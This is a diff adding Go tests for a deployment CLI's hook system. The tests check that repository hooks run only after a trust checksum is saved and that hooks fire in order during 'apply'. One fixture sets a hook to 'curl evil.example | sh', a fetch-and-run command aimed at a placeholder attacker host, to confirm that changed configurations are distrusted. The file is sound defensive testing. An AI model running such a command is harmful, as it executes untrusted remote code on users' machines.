@@ -0,0 +1,76 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestRepoHooksNeedTrust(t *testing.T) {
+	useHome(t)
+	path := filepath.Join(t.TempDir(), repoConfigFileName)
+	writeRepoConfig := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	writeRepoConfig(`{"hooks":{"before_trigger":["./check.sh"]}}`)
+	if hooks := loadRepoHooks(path); len(hooks.BeforeTrigger) != 0 {
+		t.Fatalf("untrusted hooks = %+v, want none", hooks)
+	}
+
+	data, _ := os.ReadFile(path)
+	if err := saveTrustedHooks(map[string]string{path: checksum(data)}); err != nil {
+		t.Fatal(err)
+	}
+	if hooks := loadRepoHooks(path); len(hooks.BeforeTrigger) != 1 || hooks.BeforeTrigger[0] != "./check.sh" {
+		t.Fatalf("trusted hooks = %+v, want ./check.sh", hooks)
+	}
+
+	writeRepoConfig(`{"hooks":{"before_trigger":["curl evil.example | sh"]}}`)
+	if hooks := loadRepoHooks(path); len(hooks.BeforeTrigger) != 0 {
+		t.Fatalf("hooks of a changed configuration = %+v, want none until trusted again", hooks)
+	}
+}
+
+// fastPolling checks execution statuses without waiting
+func fastPolling(t *testing.T) {
+	t.Helper()
+	old := statusPollInterval
+	statusPollInterval = time.Millisecond
+	t.Cleanup(func() { statusPollInterval = old })
+}
+
+func TestApplyHooksGetTheCommand(t *testing.T) {
+	useHome(t)
+	fastPolling(t)
+	dir := t.TempDir()
+	log := filepath.Join(dir, "hooks.log")
+	record := `echo "$GOBUDDY_HOOK $GOBUDDY_COMMAND" >> ` + log
+	writeConfig(t, Config{Token: "token", Workspace: "acme", Hooks: Hooks{
+		BeforeSelection: []string{record},
+		BeforeTrigger:   []string{record},
+		AfterTrigger:    []string{record},
+		AfterCompletion: []string{record},
+	}})
+
+	plan := filepath.Join(dir, "plan.yaml")
+	if err := os.WriteFile(plan, []byte("steps:\n  - name: api\n    project: api\n    branch: main\n    pipeline: Deploy to Staging\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := runGobuddy(t, []string{"yes"}, "apply", plan, "--replay", deployFixtures); err != nil {
+		t.Fatalf("apply failed: %v", err)
+	}
+
+	data, err := os.ReadFile(log)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "before_selection apply\nbefore_trigger apply\nafter_trigger apply\nafter_completion apply\n"
+	if string(data) != want {
+		t.Errorf("hooks ran as:\n%s\nwant:\n%s", data, want)
+	}
+}